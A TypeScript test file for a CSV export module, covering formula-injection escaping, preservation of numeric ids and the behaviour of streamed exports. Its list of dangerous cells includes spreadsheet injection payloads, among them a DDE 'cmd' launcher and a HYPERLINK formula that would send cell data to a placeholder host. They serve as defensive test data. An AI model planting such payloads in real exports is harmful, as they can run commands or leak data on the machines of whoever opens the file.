import { PassThrough, Writable } from 'node:stream';
import { setImmediate as nextTurn } from 'node:timers/promises';
import { writeSheet } from '../../../mock/engine/file';
import { csvLine } from '../../../mock/engine/sheet';
import { neutralise } from '../../../src/domain/neutralise';
import fc from '../../support/properties';
import { parseCsv } from './support';

const SIGNS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\ufe66', '\ufe62', '\ufe63', '\ufe6b'];
const HIDERS = ['', ' ', '   ', '\u00a0', '\u3000', '\u200b', '\ufeff', '\u200e'];
const dangerous = [
  ...SIGNS.flatMap((sign) => HIDERS.map((hider) => `${hider}${sign}1+1`)),
  '\tcmd',
  '\rcmd',
  '\u0000cmd',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.invalid?a="&A1,"y")',
  '@SUM(1+1)*cmd',
  '-2+3+cmd',
  '+66 555 0100',
  '-12.50',
];
const harmless = [
  '',
  'Lotus Games Co.',
  '12.50',
  '0',
  'a=b',
  'x-y',
  'a@b',
  'W20261120063102000417',
  '漢字',
  "it's",
  '1,250.00',
  'a "quote"',
  'two\r\nlines',
  ' padded ',
];

describe('cells of an export', () => {
  it('are covered by more than a few examples', () => {
    expect(dangerous.length).toBeGreaterThanOrEqual(60);
  });
  it.each(dangerous.map((cell) => [JSON.stringify(cell), cell]))('%s is not exported as a formula', (_shown, cell) => {
    expect(neutralise(cell)).toBe(`'${cell}`);
    expect(parseCsv(csvLine([cell, 'x']))).toEqual([[`'${cell}`, 'x']]);
  });
  it.each([
    ['x;=1+1', "x;'=1+1"],
    ['x; =1+1', "x; '=1+1"],
    ['x;"=1+1"', `x;"'=1+1"`],
    ['x\t@SUM(A1)', "x\t'@SUM(A1)"],
    ['x\r\n-1+1', "x\r\n'-1+1"],
    ['x;;\u200b\uff1d1;y', "x;;\u200b'\uff1d1;y"],
    ['=1;=2', "'=1;'=2"],
    ['00;=1', "00;'=1"],
    ['a; b=c; d-e', 'a; b=c; d-e'],
    ['\n=1', "'\n'=1"],
    ['"=1', `'"=1`],
    ["x;'=1", "x;'=1"],
  ])('%j is exported as %j: no part of it is a formula for another separator', (cell, safe) => {
    expect(neutralise(cell)).toBe(safe);
    expect(parseCsv(csvLine(['y', cell, 'z']))).toEqual([['y', safe, 'z']]);
  });
  it.each([';', '\t'])('are no formulas where %j separates, and lose nothing, whatever their text', (separator) => {
    const text = fc.array(fc.constantFrom(...';\t\r\n,"\'=+-@ x1\u200b\uff1d'), { maxLength: 10 }).map((signs) => signs.join(''));
    let risky = 0;
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
        const line = csvLine(cells);
        // Also quotes that open no cell, and those that another program takes for its own.
        const parts = line.split(/\r\n|[\r\n]/).flatMap((record) => record.split(separator));
        for (const part of parts) expect(part).not.toMatch(/^[\s\p{Cc}\p{Cf}"]*[=+\-@\uff1d]/u);
        if (cells.some((cell) => /[;\t\r\n]\s*[=+\-@]/.test(cell))) risky += 1;
        const [read = []] = parseCsv(line);
        expect(read.map((cell) => cell.replaceAll("'", ''))).toEqual(cells.map((cell) => cell.replaceAll("'", '')));
      }),
      { numRuns: 3000 },
    );
    expect(risky).toBeGreaterThan(300);
  });
  it.each(harmless.map((cell) => [JSON.stringify(cell), cell]))('%s is unchanged', (_shown, cell) => {
    expect(parseCsv(csvLine([cell, 'x']))).toEqual([[cell, 'x']]);
  });
  it.each(['123e45', '1E5', '12.5e+10', '9e-3', '0000000012345678', '007', '1234567890123456', '20261120063102000417'])(
    'with the number %s keep all digits',
    (id) => {
      expect(csvLine([id, id, 'x'])).toBe(`'${id},'${id},x\r\n`);
    },
  );
  it.each(['123456789012345', 'e45', '12a34', '1e5f', '0x1f', '10:30', '0.50'])(
    'with %s, which no spreadsheet rounds, are unchanged',
    (text) => {
      expect(csvLine([text])).toBe(`${text}\r\n`);
    },
  );
  it('of a numeric column are never ids', () => {
    expect(csvLine(['0001', '1234567890123456.00', '1e5'], [true, true, true])).toBe("0001,1234567890123456.00,'1e5\r\n");
  });
  it('of numeric columns are numbers only for real numbers', () => {
    expect(csvLine(['-12.50', '-12.50', '-1+1'], [true, false, true])).toBe("-12.50,'-12.50,'-1+1\r\n");
  });
});

/** What does not wait goes on in any of these; each writes 250 rows. */
const turns = async () => {
  for (let turn = 0; turn < 100; turn += 1) await new Promise((resolve) => setImmediate(resolve));
};

describe('a streamed export', () => {
  const sheet = (rows: Iterable<string[]>) => ({ head: ['head'], titles: ['a'], isNumeric: [false], rows, tail: [['Total']] });

  it('waits for a slow reader instead of buffering', async () => {
    let made = 0;
    function* rows() {
      for (; made < 100_000; made++) yield ['x'.repeat(100)];
    }
    const out = new PassThrough({ highWaterMark: 16_384 });
    const writing = writeSheet(out, 'csv', sheet(rows()));
    await turns();
    expect(out.writableNeedDrain).toBe(true);
    expect(made).toBeLessThan(2000);
    out.resume();
    await writing;
    expect(made).toBe(100_000);
  });

  it.each(['reads at once', 'is slow'])(
    'lets other calls run, also between the rows of eight files, when the reader %s',
    async (reader) => {
      let sinceTurn = 0;
      let most = 0;
      function* rows() {
        for (let made = 0; made < 5_000; made++) {
          sinceTurn += 1;
          yield ['x'.repeat(100)];
        }
      }
      const outs = Array.from(
        { length: 8 },
        () =>
          new Writable({
            highWaterMark: 16_384,
            write: (_chunk, _encoding, done) => void (reader === 'is slow' ? setImmediate(done) : done()),
          }),
      );
      let isOver = false;
      const files = Promise.all(outs.map((out) => writeSheet(out, 'csv', sheet(rows())))).then(() => {
        isOver = true;
      });
      sinceTurn = 0;
      while (!isOver) {
        await nextTurn();
        most = Math.max(most, sinceTurn);
        sinceTurn = 0;
      }
      await files;
      expect(most).toBeGreaterThan(200);
      // One part of one file.
      expect(most).toBeLessThanOrEqual(250);
    },
  );

  it('stops when the reader disconnects', async () => {
    let made = 0;
    function* rows() {
      for (; made < 100_000; made++) yield ['x'.repeat(100)];
    }
    const out = new PassThrough({ highWaterMark: 16_384 });
    out.on('error', () => undefined);
    const writing = writeSheet(out, 'csv', sheet(rows()));
    await turns();
    out.destroy();
    await writing;
    expect(made).toBeLessThan(5000);
  });
});
